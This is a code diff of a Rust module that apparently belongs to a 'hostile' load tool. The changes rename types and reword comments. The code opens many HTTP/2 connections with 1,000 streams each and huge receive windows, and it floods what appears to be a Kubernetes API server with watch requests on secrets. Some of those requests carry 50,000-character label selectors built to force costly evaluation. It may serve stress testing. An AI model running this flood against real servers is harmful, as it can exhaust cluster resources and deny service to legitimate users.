@@ -5,15 +5,15 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
 
 use anyhow::{Result, ensure};
-use bytes::Bytes;
 use http_body_util::{BodyExt, Empty};
 use hyper::Request;
-use hyper::client::conn::http2::{Builder, SendRequest};
+use hyper::client::conn::http2::Builder;
 use hyper_util::rt::{TokioExecutor, TokioIo};
 use tokio::task::JoinSet;
 
-use super::{BACK_AFTER, Open, Scene, count};
-use crate::cli::hostile::Attack;
+use super::Attack;
+use super::{AttackState, BACK_AFTER, OpenConnection, count};
+use crate::http2::GetSender;
 
 /// Streams on one connection.
 const STREAMS: usize = 1_000;
@@ -22,10 +22,7 @@ const SELECTOR_LEN: usize = 50_000;
 /// A receive window for all streams of a connection.
 const WINDOW_LEN: u32 = 1 << 30;
 
-type Sender = SendRequest<Empty<Bytes>>;
-
-/// Begins.
-pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
+pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
     let all = scene.flags.clients;
     for first in (0..all).step_by(STREAMS) {
         let scene = scene.clone();
@@ -44,34 +41,34 @@ pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
     }
 }
 
-/// One watch, begun again and again.
+/// One watch, started again and again.
 #[derive(Debug)]
 struct Watch {
     number: usize,
-    has_begun: AtomicBool,
+    has_started: AtomicBool,
 }
 
 impl Watch {
     const fn new(number: usize) -> Self {
         Self {
             number,
-            has_begun: AtomicBool::new(false),
+            has_started: AtomicBool::new(false),
         }
     }
 
-    /// It has been answered, or turned away, for the first time or once more.
-    fn begin(&self, scene: &Scene) {
-        if !self.has_begun.swap(true, Ordering::Relaxed) {
-            count(&scene.counts.begun);
+    /// Counts the watch once it has a response or was refused for the first time.
+    fn begin(&self, scene: &AttackState) {
+        if !self.has_started.swap(true, Ordering::Relaxed) {
+            count(&scene.counts.started);
         }
     }
 }
 
-/// One connection, until the server ends it; an error if there was none.
-async fn connection(scene: &Arc<Scene>, watches: &[Arc<Watch>]) -> Result<()> {
+/// One connection, until the server ends it; an error if it could not be made.
+async fn connection(scene: &Arc<AttackState>, watches: &[Arc<Watch>]) -> Result<()> {
     let mut streams = JoinSet::new();
     let sender = connect(scene, &mut streams).await?;
-    let _open = Open::of(scene);
+    let _open = OpenConnection::of(scene);
     for watch in watches {
         let (scene, sender, watch) = (scene.clone(), sender.clone(), watch.clone());
         streams.spawn(async move {
@@ -91,7 +88,7 @@ async fn connection(scene: &Arc<Scene>, watches: &[Arc<Watch>]) -> Result<()> {
     Ok(())
 }
 
-async fn connect(scene: &Scene, streams: &mut JoinSet<()>) -> Result<Sender> {
+async fn connect(scene: &AttackState, streams: &mut JoinSet<()>) -> Result<GetSender> {
     let stream = scene.target.connect_from(scene.flags.source, "h2").await?;
     let (sender, connection) = Builder::new(TokioExecutor::new())
         .initial_connection_window_size(WINDOW_LEN)
@@ -101,8 +98,8 @@ async fn connect(scene: &Scene, streams: &mut JoinSet<()>) -> Result<Sender> {
     Ok(sender)
 }
 
-/// One watch, whose events are dropped; an error if it was turned away.
-async fn watch_once(scene: &Scene, mut sender: Sender, watch: &Watch) -> Result<()> {
+/// One watch, whose events are dropped; an error if it was refused.
+async fn watch_once(scene: &AttackState, mut sender: GetSender, watch: &Watch) -> Result<()> {
     let path = match scene.flags.attack {
         Attack::Forwarded => "/api/v1/secrets?watch=1".to_owned(),
         _ => format!(
@@ -126,7 +123,7 @@ async fn watch_once(scene: &Scene, mut sender: Sender, watch: &Watch) -> Result<
     Ok(())
 }
 
-/// Terms that no pod contradicts, so that all of them are looked at; different ones for each watch.
+/// Terms that no pod contradicts, so that the server evaluates all of them; different for each watch.
 fn selector(number: usize) -> String {
     let mut text = format!("!a{number}");
     for term in 0.. {
